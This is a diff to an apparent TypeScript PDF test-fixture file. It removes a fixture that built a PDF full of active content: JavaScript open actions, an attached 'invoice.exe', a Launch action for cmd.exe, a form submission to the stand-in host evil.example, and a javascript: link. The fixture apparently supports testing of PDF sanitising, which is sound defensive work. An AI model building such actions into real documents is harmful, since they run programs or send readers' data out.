@@ -1,15 +1,6 @@
 import { randomFillSync } from 'node:crypto';
 import { deflateSync } from 'node:zlib';
-import {
-  type PDFDict,
-  PDFDocument,
-  PDFHexString,
-  PDFName,
-  PDFNumber,
-  PDFString,
-  rgb,
-  StandardFonts,
-} from '@cantoo/pdf-lib';
+import { PDFDocument, PDFHexString, PDFName, PDFNumber, rgb, StandardFonts } from '@cantoo/pdf-lib';
 import sharp from 'sharp';
 
 /** Pages with words, a red square, a title and a table of contents. */
@@ -130,48 +121,4 @@ export async function filledPdf(): Promise<Uint8Array> {
   ticked.addToPage(page, { x: 100, y: 150, width: 40, height: 40, borderWidth: 0 });
   ticked.check();
   return pdf.save();
-}
-
-/** What a script in a PDF says, so that it can be looked for. */
-export const scriptText = 'app.alert("the-script-ran")';
-/** What stands in a file that a PDF carries along. */
-export const attachedText = 'MZ this-was-attached';
-
-/** A page of words with a script at every place that readers run one from, a file, and links that start programs. */
-export async function activePdf(): Promise<PDFDocument> {
-  const pdf = await PDFDocument.load(await plainPdf(2));
-  const { context, catalog } = pdf;
-  const script = () =>
-    context.obj({ Type: 'Action', S: 'JavaScript', JS: PDFHexString.fromText(scriptText) });
-  const stream = context.register(context.flateStream(scriptText));
-  pdf.addJavaScript('on opening', scriptText);
-  await pdf.attach(Buffer.from(attachedText), 'invoice.exe', { mimeType: 'application/octet-stream' });
-  catalog.set(PDFName.of('OpenAction'), context.obj({ S: 'JavaScript', JS: stream, Next: [script()] }));
-  catalog.set(PDFName.of('AA'), context.obj({ WC: script() }));
-  const page = pdf.getPage(0);
-  page.node.set(PDFName.of('AA'), context.obj({ O: script() }));
-  const link = (at: number, action: PDFDict) =>
-    context.register(
-      context.obj({
-        Type: 'Annot',
-        Subtype: 'Link',
-        Rect: [40, at, 200, at + 20],
-        Border: [0, 0, 0],
-        A: action,
-      }),
-    );
-  const file = { Type: 'Filespec', F: PDFString.of('invoice.exe') };
-  const marks = [
-    link(500, script()),
-    link(470, context.obj({ S: 'Launch', F: PDFString.of('cmd.exe') })),
-    link(440, context.obj({ Type: 'Action', S: 'SubmitForm', F: PDFString.of('https://evil.example/take') })),
-    link(410, context.obj({ S: 'URI', URI: PDFString.of('javascript:alert(1)') })),
-    link(380, context.obj({ S: 'URI', URI: PDFString.of('https://example.com/read-more') })),
-    link(350, context.obj({ S: 'GoTo', D: [pdf.getPage(1).ref, PDFName.of('Fit')] })),
-    context.register(
-      context.obj({ Type: 'Annot', Subtype: 'FileAttachment', Rect: [300, 500, 320, 520], FS: file }),
-    ),
-  ];
-  page.node.set(PDFName.of('Annots'), context.obj(marks));
-  return pdf;
 }
